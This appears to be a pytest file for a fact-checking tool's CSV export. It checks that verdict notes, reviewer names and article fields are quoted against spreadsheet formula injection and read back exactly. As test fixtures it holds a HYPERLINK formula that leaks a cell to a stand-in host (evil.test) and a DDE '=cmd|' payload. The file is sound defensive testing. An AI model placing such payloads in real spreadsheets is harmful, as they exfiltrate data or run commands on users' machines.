"""Every CSV the tool writes is spreadsheet-safe, in every text column, and reads back exact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from export_fixtures import build_desk
from review_fixtures import build_review_db
from sqlalchemy import update
from sqlalchemy.engine import Engine
from sqlmodel import Session

from cpec_verify.export.spreadsheet import FORMULA_START
from cpec_verify.store.db import get_engine
from cpec_verify.store.models import Article

LINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_verdict_notes_and_names_are_quoted_and_import_back_exact(
    engine: Engine,
    run,
    tmp_path: Path,  # noqa: ANN001
) -> None:
    db = build_review_db(engine)
    cid = db.claim_ids[0]
    assert (
        run("verdict", str(cid), "supported", "--note", LINK, "--reviewer", "@ana").exit_code == 0
    )
    assert run("verdict", str(cid), "unsourced", "--note", "'-quoted").exit_code == 0
    out = run("verdicts", "--format", "csv", "--history").stdout
    assert not [c for c in _cells(out) if c.startswith(FORMULA_START)]
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["note"] == "'" + LINK and rows[0]["reviewer"] == "'@ana"
    assert rows[1]["note"] == "''-quoted"
    target = tmp_path / "again.sqlite"
    path = tmp_path / "v.csv"
    path.write_text(out)
    assert run("init", "--db", str(target), db=False).exit_code == 0
    # claims differ in a new database, so read the file as import would
    from cpec_verify.store.files.verdict_io import read_verdict_file

    back = read_verdict_file(path)
    assert (back[0].note, back[0].reviewer, back[1].note) == (LINK, "@ana", "'-quoted")


def test_export_csv_quotes_url_and_every_text_column(db_path: Path, run) -> None:  # noqa: ANN001
    engine = get_engine(str(db_path))
    build_desk(engine)
    with Session(engine) as session:
        session.exec(update(Article).values(url="=cmd|'/c calc'!A1", outlet="+outlet"))
        session.commit()
    result = run("export", "--format", "csv", "--status", "agreed,adjudicated,disputed")
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["url"] for r in rows} == {"'=cmd|'/c calc'!A1"}
    assert {r["outlet"] for r in rows} == {"'+outlet"}
